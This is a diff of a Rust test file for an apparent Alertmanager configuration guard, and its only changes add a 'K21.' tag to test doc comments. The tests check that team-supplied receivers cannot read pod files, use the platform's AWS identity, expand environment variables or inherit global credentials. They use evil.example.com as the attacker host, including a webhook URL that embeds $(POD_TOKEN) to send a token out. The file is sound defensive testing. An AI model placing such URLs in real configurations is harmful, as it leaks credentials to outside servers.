@@ -4,7 +4,7 @@ use serde_json::{Value, json};
 
 use super::{hook, refuses, takes};
 
-/// Guard: `trust::check`. Alertmanager would send its own files, and those of others, to the team's server.
+/// K21. Guard: `trust::check`. Alertmanager would send its own files, and those of others, to the team's server.
 #[test]
 fn nothing_is_read_from_the_pod_of_alertmanager() {
     let url = "https://evil.example.com";
@@ -56,7 +56,7 @@ fn nothing_is_read_from_the_pod_of_alertmanager() {
     );
 }
 
-/// Guard: `trust::signature`. The identity of Alertmanager's pod in AWS is the platform's.
+/// K21. Guard: `trust::signature`. The identity of Alertmanager's pod in AWS is the platform's.
 #[test]
 fn sns_is_called_with_the_teams_own_keys() {
     let sns =
@@ -76,7 +76,7 @@ fn sns_is_called_with_the_teams_own_keys() {
     refuses(json!({}), sns(profile), json!([]), "sigv4.profile: ");
 }
 
-/// Guard: `trust::expansion`. prometheus-operator's reloader would put the variables of its own container in.
+/// K21. Guard: `trust::expansion`. prometheus-operator's reloader would put the variables of its own container in.
 #[test]
 fn no_environment_variable_is_put_in() {
     let receiver = json!({"webhook_configs": [{"url": "https://evil.example.com/$(POD_TOKEN)"}]});
@@ -89,7 +89,7 @@ fn no_environment_variable_is_put_in() {
     );
 }
 
-/// Guard: `trust::inheritance`. Alertmanager fills a receiver in from `global`, whoever's server the rest of it names.
+/// K21. Guard: `trust::inheritance`. Alertmanager fills a receiver in from `global`, whoever's server the rest of it names.
 #[test]
 fn no_credential_of_global_goes_to_a_server_of_the_teams() {
     let url = "https://evil.example.com";
@@ -225,7 +225,7 @@ fn no_credential_of_global_goes_to_a_server_of_the_teams() {
     }
 }
 
-/// Guard: `trust::inheritance`. The same for how Alertmanager logs in, which every integration takes as a whole.
+/// K21. Guard: `trust::inheritance`. The same for how Alertmanager logs in, which every integration takes as a whole.
 #[test]
 fn no_login_of_global_goes_to_a_server_of_the_teams() {
     let url = "https://evil.example.com";
